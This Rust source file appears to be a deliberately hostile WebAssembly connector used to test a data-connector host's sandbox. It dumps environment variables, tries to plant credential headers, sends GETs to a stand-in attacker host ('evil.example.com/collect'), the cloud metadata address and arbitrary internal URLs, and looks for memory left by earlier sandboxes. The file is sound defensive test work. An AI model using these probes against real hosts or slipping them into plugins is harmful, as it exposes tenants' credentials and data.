//! A hostile connector for the tests: it tries every way to get at the tenant's credential or out of
//! its sandbox, and reports what happened as records (or as an error, when the host stops it).
//!
//! Objects (all at project scope, one record each):
//! - `environment`: the environment variables, arguments and root folder the plugin can see;
//! - `set_private_token` / `set_authorization`: builds request headers carrying a credential;
//! - `fetch_foreign` / `fetch_metadata`: GETs another origin / the cloud metadata address;
//! - `fetch_own`: GETs the tenant's own GitLab (`/api/v4/user`) and reports the status and the request
//!   headers the plugin itself can see;
//! - `fetch_scope`: GETs whatever URL it is given as its project (`--project http://10.0.0.1/x`), to aim
//!   it at private, loopback or link-local addresses;
//! - `leftovers`: looks for what an earlier sandbox of this plugin (another partition, perhaps another
//!   tenant's) left in its memory, then leaves its own mark there for the next one to find.

wit_bindgen::generate!({
    path: "../../../wit",
    world: "dataflow:connector/connector",
    generate_all,
});

use dataflow::connector::types::{
    Connection, ConnectorError, FieldInfo, FieldType, ObjectInfo, ObjectSchema, Page, ReadRequest, Scope, ScopeEntry,
    ScopeKind, ScopePage,
};
use exports::dataflow::connector::source::Guest;
use wasi::http::outgoing_handler;
use wasi::http::types::{Fields, Method, OutgoingRequest, Scheme};

const OBJECTS: [&str; 8] = [
    "environment",
    "set_private_token",
    "set_authorization",
    "fetch_foreign",
    "fetch_metadata",
    "fetch_own",
    "fetch_scope",
    "leftovers",
];

struct Thief;

export!(Thief);

fn info(name: &str) -> ObjectInfo {
    ObjectInfo {
        name: name.into(),
        label: name.into(),
        scopes: vec![ScopeKind::Project],
        primary_key: vec!["check".into()],
        cursor_field: None,
        readable: true,
    }
}

impl Guest for Thief {
    fn list_objects() -> Vec<ObjectInfo> {
        OBJECTS.iter().map(|o| info(o)).collect()
    }

    fn check_connection(_: Connection) -> Result<String, ConnectorError> {
        Ok("anonymous".into())
    }

    fn describe_schema(object: String) -> Result<ObjectSchema, ConnectorError> {
        if !OBJECTS.contains(&object.as_str()) {
            return Err(ConnectorError::InvalidRequest(format!("unknown object '{object}'")));
        }
        let field = |name: &str| FieldInfo {
            name: name.into(),
            field_type: FieldType::String,
            nullable: name != "check",
            filter_operators: vec![],
            filter_values: vec![],
            filter_only: false,
        };
        Ok(ObjectSchema { object: info(&object), fields: vec![field("check"), field("outcome")] })
    }

    fn list_scopes(_: Connection, within: Scope, _: ScopeKind, _: Option<String>) -> Result<ScopePage, ConnectorError> {
        // Every scope is itself, by the id it was given.
        Ok(ScopePage {
            scopes: vec![ScopeEntry { label: format!("{within:?}"), scope: within }],
            next_page_token: None,
        })
    }

    fn validate_request(_: Connection, request: ReadRequest) -> Result<(), ConnectorError> {
        Self::describe_schema(request.object).map(drop)
    }

    fn read_page(connection: Connection, request: ReadRequest) -> Result<Page, ConnectorError> {
        let outcome = match request.object.as_str() {
            "environment" => {
                let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                let args: Vec<String> = std::env::args().collect();
                let root =
                    std::fs::read_dir("/").map(|d| d.count().to_string()).unwrap_or_else(|e| format!("denied: {e}"));
                format!("vars={vars:?} args={args:?} root={root}")
            }
            "set_private_token" => try_header("private-token", b"stolen"),
            "set_authorization" => try_header("authorization", b"Bearer stolen"),
            "fetch_foreign" => fetch("https://evil.example.com/collect")?,
            "fetch_metadata" => fetch("http://169.254.169.254/latest/meta-data/")?,
            "fetch_own" => fetch(&format!("{}/api/v4/user", connection.base_url.trim_end_matches('/')))?,
            "fetch_scope" => match &request.scope {
                Scope::Project(url) => fetch(url)?,
                other => {
                    return Err(ConnectorError::InvalidRequest(format!("give a URL as the project, not {other:?}")));
                }
            },
            "leftovers" => leftovers(&format!("{:?}", request.scope)),
            other => return Err(ConnectorError::InvalidRequest(format!("unknown object '{other}'"))),
        };
        let record = format!("{{\"check\":{:?},\"outcome\":{:?}}}\n", request.object, outcome);
        Ok(Page { records: record.into_bytes(), record_count: 1, next_page_token: None, high_watermark: None })
    }
}

/// Memory at a fixed address, written in place: each sandbox of this plugin sees it where the one
/// before wrote.
struct Fixed<const N: usize>(std::cell::UnsafeCell<[u8; N]>);

// SAFETY: a sandbox runs one call at a time, on one thread.
unsafe impl<const N: usize> Sync for Fixed<N> {}

/// Zeroed memory (`.bss`).
static ZEROED: Fixed<{ 64 << 10 }> = Fixed(std::cell::UnsafeCell::new([0; 64 << 10]));
/// Memory that starts as the module's data (`.data`).
static INITIALIZED: Fixed<32> = Fixed(std::cell::UnsafeCell::new(*b"the module's own data, untouched"));

/// What the memory held before this sandbox wrote its mark (`clean`, or the marks found), and whether
/// the mark is then found (so that a mark left behind would be seen): `before=clean after=marked`.
fn leftovers(scope: &str) -> String {
    let mark = format!("MARK-{}", scope.chars().filter(char::is_ascii_alphanumeric).collect::<String>());
    // SAFETY: a sandbox runs one call at a time, and this is the only place that touches them.
    let (zeroed, initialized) = unsafe { (&mut *ZEROED.0.get(), &mut *INITIALIZED.0.get()) };
    let look = |zeroed: &[u8], initialized: &[u8]| {
        let mut found = Vec::new();
        if let Some(at) = zeroed.iter().position(|b| *b != 0) {
            let end = zeroed[at..].iter().position(|b| *b == 0).map_or(zeroed.len(), |n| at + n);
            found.push(format!("zeroed memory holds {:?}", String::from_utf8_lossy(&zeroed[at..end])));
        }
        if initialized != b"the module's own data, untouched" {
            found.push(format!("data memory holds {:?}", String::from_utf8_lossy(initialized)));
        }
        if found.is_empty() { "clean".to_owned() } else { found.join(", ") }
    };
    let before = look(std::hint::black_box(&zeroed[..]), std::hint::black_box(&initialized[..]));
    let at = 4096 + scope.len() % 7 * 100;
    zeroed[at..at + mark.len()].copy_from_slice(mark.as_bytes());
    initialized[..mark.len().min(32)].copy_from_slice(&mark.as_bytes()[..mark.len().min(32)]);
    let after = look(std::hint::black_box(&zeroed[..]), std::hint::black_box(&initialized[..]));
    let after = if after.contains(&mark) { "marked".to_owned() } else { format!("not marked: {after}") };
    format!("before={before} after={after}")
}

fn try_header(name: &str, value: &[u8]) -> String {
    let fields = Fields::new();
    let append = fields.append(name, value);
    let from_list = Fields::from_list(&[(name.to_owned(), value.to_vec())]);
    format!("append={append:?} from_list={:?}", from_list.map(|_| "accepted"))
}

fn fetch(url: &str) -> Result<String, ConnectorError> {
    let (scheme, rest) = match url.strip_prefix("https://") {
        Some(rest) => (Scheme::Https, rest),
        None => (Scheme::Http, url.strip_prefix("http://").unwrap_or(url)),
    };
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let headers = Fields::new();
    let request = OutgoingRequest::new(headers);
    let _ = request.set_method(&Method::Get);
    let _ = request.set_scheme(Some(&scheme));
    let _ = request.set_authority(Some(authority));
    let _ = request.set_path_with_query(Some(path));
    let seen: Vec<String> = request.headers().entries().iter().map(|(k, _)| k.clone()).collect();
    let future =
        outgoing_handler::handle(request, None).map_err(|e| ConnectorError::Transport(format!("GET {url}: {e:?}")))?;
    future.subscribe().block();
    match future.get() {
        Some(Ok(Ok(response))) => Ok(format!("status={} headers_seen={seen:?}", response.status())),
        Some(Ok(Err(code))) => Err(ConnectorError::Transport(format!("GET {url}: {code:?}"))),
        _ => Err(ConnectorError::Transport(format!("GET {url}: no response"))),
    }
}
